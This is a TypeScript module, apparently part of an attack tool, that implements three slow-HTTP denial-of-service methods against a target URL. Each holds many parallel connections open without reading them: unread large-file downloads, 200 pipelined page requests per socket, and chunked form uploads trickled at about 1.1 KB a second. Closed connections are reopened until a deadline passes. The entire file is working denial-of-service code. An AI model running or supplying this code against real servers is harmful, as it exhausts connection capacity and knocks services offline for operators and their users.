import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { count, type Target } from './attack.ts'

type SocketData = { initial: string; repeated?: { ms: number; text: string } }

/** Opens `parallel` connections that never read, and reopens each when it is closed. */
async function holdConnections(target: Target, { initial, repeated }: SocketData): Promise<void> {
  const { hostname, port } = new URL(target.url)
  const deadline = Date.now() + target.seconds * 1_000
  const loop = async () => {
    while (Date.now() < deadline) {
      const socket = connect(Number(port), hostname)
      socket.pause()
      socket.on('error', () => undefined)
      socket.write(initial)
      const timer = repeated && setInterval(() => socket.write(repeated.text), repeated.ms)
      const closed = new Promise((resolve) => socket.once('close', () => resolve('closed')))
      const end = await Promise.race([closed, sleep(Math.max(0, deadline - Date.now()), 'open')])
      clearInterval(timer)
      socket.destroy()
      count(String(end))
      await sleep(50)
    }
  }
  await Promise.all(Array.from({ length: target.parallel }, loop))
}

/** Requests a large file and never reads it. */
export async function unreadDownloads(target: Target): Promise<void> {
  const { host } = new URL(target.url)
  await holdConnections(target, { initial: `GET ${target.fileUrl} HTTP/1.1\r\nhost: ${host}\r\n\r\n` })
}

/** Sends 200 pipelined page requests in one packet and never reads. */
export async function unreadPipelines(target: Target): Promise<void> {
  const { host } = new URL(target.url)
  await holdConnections(target, { initial: `GET /pricing HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(200) })
}

/** Anonymous forms to an unknown route, at 1.1 KB a second. */
export async function trickledForms(target: Target): Promise<void> {
  const { host } = new URL(target.url)
  const head = 'content-type: multipart/form-data; boundary=b\r\ntransfer-encoding: chunked'
  await holdConnections(target, {
    initial: `POST /nothing HTTP/1.1\r\nhost: ${host}\r\n${head}\r\n\r\n`,
    repeated: { ms: 1_000, text: `44c\r\n${'x'.repeat(1_100)}\r\n` },
  })
}
